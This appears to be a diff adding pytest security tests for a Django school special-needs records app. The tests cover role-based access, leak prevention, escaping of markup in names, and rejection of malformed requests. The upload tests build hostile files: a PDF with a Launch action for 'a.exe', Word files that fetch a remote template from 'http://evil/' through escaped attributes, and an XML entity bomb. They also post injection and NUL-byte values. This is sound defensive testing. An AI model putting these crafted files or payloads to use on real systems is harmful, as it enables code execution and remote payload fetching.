@@ -1,0 +1,377 @@
+"""What curious people try: each test was a way through once, or guards a wall that nothing else tests."""
+
+import datetime as dt
+
+import pytest
+from django.urls import reverse
+from django.utils import timezone
+from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+
+from core.accounts.actions import end_access, give_role
+from core.accounts.enums import Permission, Role
+from core.accounts.models import Membership
+from core.accounts.roles import roles_with
+from core.documents.actions import keep_file
+from core.documents.models import IssuedDocument
+from overview.transfer_record import transfer_record
+from register import actions as register
+from register.concerns.actions import decide, raise_concern, record_event
+from register.enums import DocumentKind, EventKind, GrantKind, Outcome, Sensitivity
+from register.file.uploads import UploadRefused, check_upload
+from register.models import Concern, LifeEvent, Pupil, PupilDocument, StatusPeriod
+from register.profiles.supply import make_pack
+from register.transition.actions import begin_transfer
+from tests.cast import AT, PDF, Cast, make_ready
+from tests.register.file.conftest import docx, packed, pdf
+
+pytestmark = pytest.mark.django_db
+SECRET = "Zebra words that few may read"
+MARKUP = "<b id=zebra>Maya</b>"
+
+
+def page(cast: Cast, who: str, name: str, *args: str, query: str = "") -> str:
+    """The text of a page of Oakfield that the person may open."""
+    response = cast.client_for(who).get(reverse(name, args=["oakfield", *args]) + query)
+    assert response.status_code == 200, (name, response.status_code)
+    return response.content.decode()
+
+
+def status(cast: Cast, who: str, name: str, *args: str, query: str = "", post: dict | None = None) -> int:
+    client, path = cast.client_for(who), reverse(name, args=["oakfield", *args]) + query
+    return (client.get(path) if post is None else client.post(path, post)).status_code
+
+
+def also(cast: Cast, who: str, role: Role) -> None:
+    """Give somebody of Oakfield a second role."""
+    with cast.acting("senco"):
+        give_role(school=cast.oakfield, user=cast.people[who], role=role, by=cast.senco, at=AT)
+
+
+def no_longer(cast: Cast, who: str, role: Role) -> None:
+    with cast.acting("senco"):
+        held = Membership.objects.current().get(school=cast.oakfield, user=cast.people[who], role=role)
+        end_access(membership=held, by=cast.senco, at=AT)
+
+
+@pytest.fixture
+def event(cast) -> LifeEvent:
+    with cast.acting("senco"):
+        return record_event(pupil=cast.own.pupil, kind=EventKind.BEREAVEMENT, on=dt.date(2026, 10, 1), note=SECRET,
+                            by=cast.senco, at=AT)  # fmt: skip
+
+
+@pytest.fixture
+def decided(cast) -> Concern:
+    """A concern about a child at no level, decided with words that only those who read concerns may know."""
+    pupil = cast.own.pupil
+    with cast.acting("senco"):
+        StatusPeriod.objects.filter(pupil=pupil).delete()
+        concern = raise_concern(pupil=pupil, raised_on=AT.date(), reasons=SECRET, by=cast.senco, at=AT)
+        return decide(concern=concern, outcome=Outcome.MONITOR, decided_on=AT.date(), decision=SECRET, ground_staff="x",
+                      consulted=["parents"], by=cast.senco, at=AT)  # fmt: skip
+
+
+# what happened to a child, in the form on which anybody raises a concern
+
+
+@pytest.mark.parametrize("who", ["office", "ta"])
+def test_who_may_not_read_events_does_not_read_them_while_raising_a_concern(cast, event, who):
+    shown = page(cast, who, "concerns:raise", cast.own.pupil.reference, query=f"?event={event.pk}")
+    assert SECRET not in shown and "Bereavement" not in shown.replace("bereavement", "")
+
+
+def test_who_reads_events_raises_a_concern_from_one(cast, event):
+    shown = page(cast, "teacher", "concerns:raise", cast.own.pupil.reference, query=f"?event={event.pk}")
+    assert SECRET in shown
+
+
+# a parent with a second role
+
+
+@pytest.mark.parametrize("role", [Role.GOVERNOR, Role.PROFESSIONAL])
+def test_parent_with_a_role_that_raises_no_concern_gets_the_parents_form(cast, event, role):
+    also(cast, "parent", role)
+    shown = page(cast, "parent", "concerns:raise", cast.own.pupil.reference, query=f"?event={event.pk}")
+    assert SECRET not in shown and "Send to the school" in shown
+
+
+def test_parent_who_visits_another_child_as_a_professional_raises_no_concern_about_it(cast):
+    also(cast, "parent", Role.PROFESSIONAL)
+    with cast.acting("senco"):
+        register.grant(pupil=cast.other.pupil, user=cast.parent, kind=GrantKind.PROFESSIONAL)
+    assert status(cast, "parent", "concerns:raise", cast.other.pupil.reference) == 403
+
+
+def test_teacher_who_is_a_parent_sees_the_own_child_as_a_parent_does(cast, event):
+    with cast.acting("senco"):
+        register.grant(pupil=cast.other.pupil, user=cast.teacher, kind=GrantKind.PARENT)
+    also(cast, "teacher", Role.PARENT)
+    for name in ("overview:pupil", "overview:timeline", "concerns:pupil", "file:file", "voice:voices"):
+        assert status(cast, "teacher", name, cast.other.pupil.reference) == 404
+    shown = page(cast, "teacher", "concerns:raise", cast.other.pupil.reference)
+    assert "Send to the school" in shown
+
+
+@pytest.mark.parametrize("name,thing", [("file:document", "document"), ("letters:read", "letter"),
+                                        ("concerns:raise", "pupil"), ("overview:pupil", "pupil")])  # fmt: skip
+def test_who_is_no_parent_any_more_opens_nothing_as_one(cast, name, thing):
+    also(cast, "parent", Role.GOVERNOR)
+    references = {"document": cast.own.document.reference, "pupil": cast.own.pupil.reference}
+    reference = references.get(thing) or cast.things["own"]["letter"]
+    no_longer(cast, "parent", Role.PARENT)
+    assert status(cast, "parent", name, reference) == 404
+
+
+def test_parent_posts_nothing_for_another_child(cast):
+    other = cast.other.pupil.reference
+    assert status(cast, "parent", "concerns:raise", other, post={"reasons": "x"}) == 404
+    assert status(cast, "parent", "overview:family-comment", other, post={"comment": "x"}) == 404
+    assert status(cast, "parent", "letters:read", cast.things["other"]["letter"], post={"comment": "x"}) == 404
+
+
+@pytest.mark.parametrize("role", [Role.TEACHER, Role.TA])
+@pytest.mark.xfail(strict=True, reason="roles add up: the office's sight of the whole school, the class's right to read")
+def test_clerk_who_also_works_in_a_class_reads_no_other_childs_record(cast, role):
+    also(cast, "office", role)
+    assert status(cast, "office", "profiles:profile", cast.other.pupil.reference) in {403, 404}
+
+
+# who supported a child that has left
+
+
+def test_ta_no_longer_opens_the_record_of_a_child_who_has_left(cast):
+    assert status(cast, "ta", "overview:pupil", cast.own.pupil.reference) == 200
+    with cast.acting("senco"):
+        register.mark_leaver(pupil=cast.own.pupil, on=timezone.localdate() - dt.timedelta(days=1), by=cast.senco, at=AT)
+    for who in ("ta", "teacher"):
+        assert status(cast, who, "overview:pupil", cast.own.pupil.reference) == 404
+
+
+# words of a concern under another name
+
+
+@pytest.mark.parametrize("name", ["overview:pupil", "overview:timeline"])
+def test_words_of_a_decision_are_not_told_as_the_reason_of_a_level(cast, decided, name):
+    assert SECRET not in page(cast, "ta", name, cast.own.pupil.reference)
+    assert SECRET in page(cast, "teacher", name, cast.own.pupil.reference)
+
+
+def test_request_for_support_is_for_who_reads_concerns(cast, decided):
+    with cast.acting("senco"):
+        make_ready(IssuedDocument.objects.get(pk=decided.document.issued_id))
+    reference = decided.document.reference
+    assert status(cast, "ta", "file:document", reference) == 404
+    assert "Request for SEND support" not in page(cast, "ta", "file:file", cast.own.pupil.reference)
+    assert status(cast, "teacher", "file:document", reference) == 200
+
+
+def test_next_school_is_not_told_of_requests_for_support(cast, decided):
+    with cast.acting("senco"):
+        transfer = begin_transfer(pupil=cast.own.pupil, to_school="Elsewhere", to_contact="", leaving_on=AT.date(),
+                                  note="", by=cast.senco, at=AT)  # fmt: skip
+        told = transfer_record(transfer, at=AT)
+    assert "Request for" not in str(told["documents"])
+
+
+def test_next_school_is_not_told_the_words_of_a_concern(cast, decided):
+    with cast.acting("senco"):
+        transfer = begin_transfer(pupil=cast.own.pupil, to_school="Elsewhere", to_contact="", leaving_on=AT.date(),
+                                  note="", by=cast.senco, at=AT)  # fmt: skip
+        told = transfer_record(transfer, at=AT)
+    assert SECRET not in str(told)
+
+
+def test_whoever_reads_who_changed_what_may_read_all_that_it_quotes():
+    for needed in (Permission.RESTRICTED_VIEW, Permission.CONCERN_VIEW, Permission.SEN_VIEW):
+        assert set(roles_with(Permission.AUDIT_VIEW)) <= set(roles_with(needed))
+
+
+# markup in a child's name
+
+
+@pytest.mark.parametrize("name", ["voice:interview", "voice:questionnaire", "voice:pictures", "profiles:edit", "needs:edit",
+                                  "concerns:raise", "overview:pupil", "overview:timeline", "letters:write",
+                                  "safeguarding:raise", "needs:assessments", "arrangements:list"])  # fmt: skip
+def test_markup_in_a_name_is_never_drawn(cast, name):
+    with cast.acting("senco"):
+        Pupil.objects.filter(pk=cast.own.pupil.pk).update(preferred_first=MARKUP)
+        cast.own.pupil.profile.delete() if hasattr(cast.own.pupil, "profile") else None
+    assert MARKUP not in page(cast, "senco", name, cast.own.pupil.reference)
+
+
+def test_markup_in_a_name_is_never_drawn_in_a_plan(cast):
+    with cast.acting("senco"):
+        Pupil.objects.filter(pk=cast.own.pupil.pk).update(preferred_first=MARKUP)
+    assert MARKUP not in page(cast, "senco", "apdr:edit", cast.own.draft.reference)
+
+
+def test_markup_in_an_instrument_is_never_drawn_in_a_chart(cast):
+    from register.needs.actions import write_assessment
+
+    with cast.acting("senco"):
+        for month, score in ((9, 80), (10, 90)):
+            write_assessment(pupil=cast.own.pupil, kind="standardised", instrument="</title><b id=zebra>Test",
+                             on=dt.date(2026, month, 1), standardised=score, by=cast.senco, at=AT)  # fmt: skip
+    shown = page(cast, "senco", "needs:assessments", cast.own.pupil.reference)
+    assert "<b id=zebra>" not in shown and "polyline" in shown
+
+
+# prepared files
+
+
+def _launch_by_reference(writer):
+    kind = writer._add_object(NameObject("/Launch"))
+    action = DictionaryObject({NameObject("/S"): kind, NameObject("/F"): TextStringObject("a.exe")})
+    writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)
+
+
+def _files_by_reference(writer):
+    kind = writer._add_object(NameObject("/EmbeddedFile"))
+    writer._add_object(DictionaryObject({NameObject("/Type"): kind}))
+
+
+@pytest.mark.parametrize("change", [_launch_by_reference, _files_by_reference])
+def test_pdf_does_not_hide_what_it_does_behind_a_reference(change):
+    with pytest.raises(UploadRefused):
+        check_upload(pdf(change), "a.pdf")
+
+
+RELATIONS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}' \
+            "</Relationships>"  # fmt: skip
+OUTSIDE = "<Relationship Type={q}http://x/attached{t}emplate{q} Target={q}http://evil/{q} TargetMode={q}Exter{n}al{q}/>"
+
+
+@pytest.mark.parametrize("words", [
+    {"q": "'", "t": "T", "n": "n"}, {"q": '"', "t": "&#84;", "n": "n"}, {"q": '"', "t": "T", "n": "&#110;"},
+])  # fmt: skip
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+def test_word_document_does_not_hide_the_template_that_it_fetches(words, encoding):
+    text = RELATIONS.format(OUTSIDE.format(**words))
+    prepared = docx(**{"word/_rels/settings.xml.rels": text.encode(encoding)})
+    with pytest.raises(UploadRefused, match="fetches a template"):
+        check_upload(prepared, "a.docx")
+
+
+def test_word_document_with_links_is_no_danger():
+    link = '<Relationship Type="http://x/hyperlink" Target="http://school/" TargetMode="External"/>'
+    assert check_upload(docx(**{"word/_rels/document.xml.rels": RELATIONS.format(link)}), "a.docx").name == "a.docx"
+
+
+def test_many_entities_in_a_word_document_are_refused_at_once():
+    bomb = '<!DOCTYPE r [<!ENTITY a "x"><!ENTITY b "&a;&a;">]><r>&b;</r>'
+    with pytest.raises(UploadRefused):
+        check_upload(packed(**{"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>",
+                               "word/_rels/a.rels": bomb}), "a.docx")  # fmt: skip
+
+
+# prepared requests
+
+
+@pytest.mark.parametrize("version", ["²", "9" * 5000, "9" * 30, "-1", "x"])
+@pytest.mark.parametrize("autosave", [{}, {"autosave": "1"}])
+def test_version_that_nobody_has_stops_no_page(cast, version, autosave):
+    posted = {"version": version, "helps": "Quiet", **autosave}
+    assert status(cast, "teacher", "profiles:edit", cast.own.pupil.reference, post=posted) < 500
+
+
+@pytest.mark.parametrize("name,field", [("profiles:edit", "helps"), ("concerns:raise", "reasons"),
+                                        ("voice:interview", "own_targets"), ("needs:strengths", "strengths")])  # fmt: skip
+@pytest.mark.parametrize("autosave", [{}, {"autosave": "1"}])
+def test_nul_in_a_text_stops_no_page(cast, name, field, autosave):
+    posted = {field: "a\0b", "version": "0", **autosave}
+    assert status(cast, "senco", name, cast.own.pupil.reference, post=posted) < 500
+
+
+@pytest.mark.parametrize("name,query", [("concerns:support-start", "?concern=%00"), ("concerns:raise", "?event=%C2%B2"),
+                                        ("profiles:versions", "?old=%00"), ("file:file", "?kind=%00"),
+                                        ("overview:timeline", "?kind=%00")])  # fmt: skip
+def test_prepared_address_stops_no_page(cast, name, query):
+    assert status(cast, "senco", name, cast.own.pupil.reference, query=query) < 500
+
+
+@pytest.mark.parametrize("name,query", [("transition:roll-over", "?into=%C2%B2"), ("transition:roll-over", "?pupil=%00"),
+                                        ("profiles:supply", "?class=%00"), ("concerns:queue", "?class=%00&kind=%00"),
+                                        ("profiles:coverage", "?class=%00"), ("arrangements:school", "?year=%00")])  # fmt: skip
+def test_prepared_address_of_a_list_stops_no_page(cast, name, query):
+    assert status(cast, "senco", name, query=query) < 500
+
+
+@pytest.mark.parametrize("posted", [{"remove": "term-²"}, {"remove": "term-" + "9" * 40}])
+def test_prepared_key_of_a_term_stops_no_page(cast, posted):
+    assert status(cast, "senco", "overview:terms", post=posted) == 404
+
+
+def test_second_click_on_share_does_not_take_the_document_back(cast):
+    with cast.acting("senco"):
+        kept = keep_file(school=cast.oakfield, name="a.pdf", data=PDF, content_type="application/pdf", at=AT)
+        document = PupilDocument.objects.create(
+            school=cast.oakfield, pupil=cast.own.pupil, file=kept, kind=DocumentKind.REPORT, title="Report", filed_at=AT,
+            filed_by=cast.senco,
+        )  # fmt: skip
+    for _click in range(2):
+        posted = {"version": str(document.version)}
+        assert status(cast, "senco", "file:share", document.reference, post=posted) in {200, 302}
+    with cast.acting("senco"):
+        assert PupilDocument.objects.get(pk=document.pk).for_family
+
+
+# what is restricted
+
+
+def test_restricted_document_is_no_choice_and_no_link_for_others(cast):
+    with cast.acting("senco"):
+        PupilDocument.objects.filter(pk=cast.own.private.pk).update(sensitivity=Sensitivity.RESTRICTED, title=SECRET)
+    pupil = cast.own.pupil.reference
+    for name in ("overview:pupil", "overview:timeline", "file:file", "needs:assessment-add", "needs:assessments",
+                 "arrangements:list", "needs:needs"):  # fmt: skip
+        assert SECRET not in page(cast, "teacher", name, pupil)
+    for name in ("file:document", "file:change", "file:share"):
+        assert status(cast, "teacher", name, cast.own.private.reference) == 404
+
+
+@pytest.mark.parametrize("who", ["head", "teacher", "ta", "office", "trust_lead", "governor", "parent"])
+def test_safeguarding_signs_are_on_no_page_of_others(cast, who):
+    client, own = cast.client_for(who), cast.own.pupil.reference
+    reference = cast.things["own"]["sign"]
+    for name in ("overview:pupil", "overview:timeline", "overview:audit", "concerns:pupil", "file:file"):
+        response = client.get(reverse(name, args=["oakfield", own]))
+        assert reference not in response.content.decode() and "safeguarding sign" not in response.content.decode().lower()
+    home = client.get(reverse("overview:home", args=["oakfield"])).content.decode()
+    assert reference not in home and "Signs to take on" not in home
+
+
+# links without an account
+
+
+@pytest.fixture
+def link(cast) -> str:
+    with cast.acting("teacher"):
+        pack, token = make_pack(school_class=cast.own.pupil.school_class, name="Ada", day=timezone.localdate(),
+                                by=cast.teacher, at=timezone.now())  # fmt: skip
+    return reverse("profiles:supply-open", args=["oakfield", token])
+
+
+def test_link_of_one_school_opens_nothing_at_another(cast, link):
+    assert cast.client_for("anonymous").get(link).status_code == 200
+    for slug in ("hillcrest", "riverside", "no-such-school"):
+        assert cast.client_for("anonymous").get(link.replace("oakfield", slug)).status_code == 404
+
+
+@pytest.mark.parametrize("who", ["foreign_senco", "stranger", "parent", "senco"])
+def test_link_shows_the_same_to_who_has_signed_in(cast, link, who):
+    answer = cast.client_for(who).get(link)
+    assert answer.status_code == 200
+    assert answer["Cache-Control"] == "no-store, private" and answer["Referrer-Policy"] == "no-referrer"
+    assert "Leo" not in answer.content.decode()
+
+
+def test_link_of_a_teacher_who_lost_role_or_account_opens_nothing(cast, link):
+    with cast.acting("senco"):
+        cast.teacher.is_active = False
+        cast.teacher.save(update_fields=["is_active"])
+    assert cast.client_for("anonymous").get(link).status_code == 404
+    with cast.acting("senco"):
+        cast.teacher.is_active = True
+        cast.teacher.save(update_fields=["is_active"])
+    no_longer(cast, "teacher", Role.TEACHER)
+    assert cast.client_for("anonymous").get(link).status_code == 404
